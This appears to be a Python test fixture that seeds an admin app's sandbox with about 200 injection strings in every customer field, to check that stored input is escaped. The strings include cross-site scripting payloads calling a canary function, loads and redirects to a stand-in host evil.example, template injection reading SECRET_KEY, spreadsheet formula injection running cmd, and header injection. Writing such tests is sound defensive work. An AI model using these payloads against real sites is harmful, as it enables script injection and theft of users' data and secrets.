"""200 strings that somebody might put into flinkey for us to show: each would call `kanari` or go to another host."""

from collections.abc import Sequence
from datetime import datetime, timedelta

from flinkey_admin.sandbox import Remote
from flinkey_admin.sandbox.clock import written
from flinkey_admin.sandbox.world import Customer, World, save
from tests.conftest import COORDINATOR

# What ends the place in which a name may stand.
BEFORE = ("", '">', "'>", "</title>", "</textarea>", "-->", "]]></script>", "</option></select>")
VECTORS = (
    "<script>kanari()</script>",
    "<img src=x onerror=kanari()>",
    "<svg onload=kanari()>",
    "<svg/onload=kanari()//",
    "<details open ontoggle=kanari()>",
    "<input autofocus onfocus=kanari()>",
    '<iframe srcdoc="<script>parent.kanari()</script>"></iframe>',
    '<a href="javascript:kanari()" autofocus onfocus=kanari()>x</a>',
    "<style>@import '//evil.example/kanari.css'; body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/kanari.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/kanari">',
    "<base href=//evil.example/>",
    "<form action=//evil.example/kanari><button>x</button></form>",
    '<object data="javascript:kanari()"></object>',
    "<video><source onerror=kanari()></video>",
    "<div hx-get=//evil.example/kanari hx-trigger=load></div>",
    "<div hx-on:htmx:after:init=kanari() hx-on::load=kanari() hx-on:click=kanari()></div>",
    '<math><a xlink:href="javascript:kanari()">x</a></math>',
    "<template shadowrootmode=open><script>kanari()</script></template>",
    '<button formaction="javascript:kanari()" autofocus onfocus=kanari()>x</button>',
)
ODD = (
    '" onmouseover="kanari()" autofocus onfocus="kanari()" x="',
    "' onmouseover='kanari()' autofocus onfocus='kanari()' x='",
    "` onerror=kanari() `",
    "x onfocus=kanari() autofocus",
    "javascript:kanari()",
    "java\tscript:kanari()",
    "data:text/html,<script>parent.kanari()</script>",
    "';kanari();//",
    '";kanari();//',
    "\\';kanari();//",
    "${kanari()}",
    "{{constructor.constructor('kanari()')()}}",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "{% include 'web/base.html' %}",
    '"}}]};kanari();//',
    "<!--<script>kanari()",
    "<<script>kanari()//<</script>",
    "<scr<script>ipt>kanari()</scr</script>ipt>",
    "<scr\0ipt>kanari()</scr\0ipt>",
    "<ScRiPt/x>kanari()</sCrIpT>",
    "<\u017fcript>kanari()</\u017fcript>",  # a long s, which becomes an S in capitals
    "\uff1cscript\uff1ekanari()\uff1c/script\uff1e",
    "&lt;script&gt;kanari()&lt;/script&gt;",
    "&#x3c;script&#x3e;kanari()&#x3c;/script&#x3e;",
    "%3Cscript%3Ekanari()%3C/script%3E",
    "+ADw-script+AD4-kanari()+ADw-/script+AD4-",
    '<noscript><p title="</noscript><img src=x onerror=kanari()>">',
    "<svg><style><img src=x onerror=kanari()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=kanari()>'>",
    "<plaintext><xmp><listing>",
    "\u202e\u2066kanari\u2069\u202d",
    "a\u0300" * 200,
    "W" * 1000,
    "\ud800<img src=x onerror=kanari()>\udfff",
    "\x01\x0b\x1f\x7f\x85\ufffe<img src=x onerror=kanari()>",
    "\u2028kanari()\u2029",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0;=1+1\t=2",
    "\r\nSet-Cookie: kanari=1\r\n\r\n<script>kanari()</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:kanari\r\nATTACH:javascript:kanari()\r\n;,\\",
)
STRINGS = [*(f"{before}{vector}" for vector in VECTORS for before in BEFORE), *ODD]


def build(strings: Sequence[str], now: datetime) -> World:
    """A customer whose things have these strings in every field: the first thing of each kind the first of them."""
    world = World(managers={COORDINATOR: {1}})
    customer = world.add_customer(strings[0])
    for number, text in enumerate(strings, start=1):
        _add(customer, number, text, now)
    return world


def _add(customer: Customer, number: int, text: str, now: datetime) -> None:
    words = ("name", "description", "vin", "licensePlate", "brand", "model")
    customer.add("cars", **dict.fromkeys(words, text))
    customer.add("users", emailAddress=text, userData={"firstName": text, "lastName": text})
    ended = {"isTerminated": True, "terminationDate": written(now), "terminationCause": text}
    customer.add("services", name=text, productId=number, **ended)
    box = dict.fromkeys(("uniqueId", "serialNumber", "sapNumber", "type"), text)
    customer.add("products", dongleTerminationTimeStamp=None, **box)
    kinds = ("cars", "users", "services", "products")
    customer.add_group(f"{number} {text}", **{kind: [number] for kind in kinds})
    start, end = (written(now + timedelta(hours=hours)) for hours in (-1, 3))
    customer.add_window(number, number, start, end)
    customer.add_window(number, number, written(now + timedelta(days=1)), written(now + timedelta(days=2)))


def put(remote: Remote, strings: Sequence[str]) -> None:
    """The sandbox has these from now on."""
    saved = remote.snapshot()
    now = datetime.fromisoformat(remote.now())
    remote.restore(saved | {"world": save(build(strings, now)), "jobs": []})
